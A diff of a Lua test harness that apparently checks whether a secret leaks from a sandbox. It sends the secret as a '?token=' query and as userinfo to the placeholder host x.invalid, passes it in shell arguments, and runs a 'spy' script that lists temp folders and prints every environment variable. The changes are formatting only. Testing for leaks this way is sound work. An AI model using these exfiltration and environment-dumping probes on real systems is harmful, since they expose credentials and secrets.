@@ -79,10 +79,12 @@ way("requests", function(cx)
     function() return exec { text } end, function() return exec { "cat", "scratch/" .. text } end,
     function() return http.get("https://" .. text .. "@x.invalid/" .. text, { timeout = "2s", retry = false }) end,
     function() return http.get("ftp://" .. text) end,
-    function() return http.get("https://x.invalid/?token=" .. text, { headers = { [text] = text }, timeout = "2s", retry = false }) end,
+    function()
+      return http.get("https://x.invalid/?token=" .. text, { headers = { [text] = text }, timeout = "2s", retry = false })
+    end,
     function() return require(text) end, function() return json.decode("{" .. text) end,
     function() return yaml.decode("a: [" .. text) end, function() return load(text)() end,
-    function() return host.event.log { level = text, text = text } end, function() return time and text.x.y end,
+    function() return host.event.log { level = text, text = text } end, function() return text.x.y end,
   } do print(select(2, pcall(ask))) end
 end)
 
@@ -105,7 +107,9 @@ end)
 way("arguments", function(cx)
   if cx.params.control then return end
   local h, text = have(cx), text_of(cx)
-  for _, argument in ipairs { h, text, "--token=" .. text } do print(select(2, pcall(exec, { "sh", "-c", "sleep 1", argument }))) end
+  for _, argument in ipairs { h, text, "--token=" .. text } do
+    print(select(2, pcall(exec, { "sh", "-c", "sleep 1", argument })))
+  end
   exec { "sh", "-c", "ulimit -c; sleep 1", env = { T = h } }
 end)
 
@@ -123,7 +127,7 @@ for folder in ("/tmp", "/dev/shm", "/dev/mqueue", "/run", "/var/tmp", os.environ
         print(folder, name)
 print(dict(os.environ))
 ]]
-stage "spy" { timeout = "60s", run = function(cx)
+stage "spy" { timeout = "60s", run = function()
   print "way spy"
   for _ = 1, 4 do exec { python, "-c", spy } sleep(0.2) end
 end }
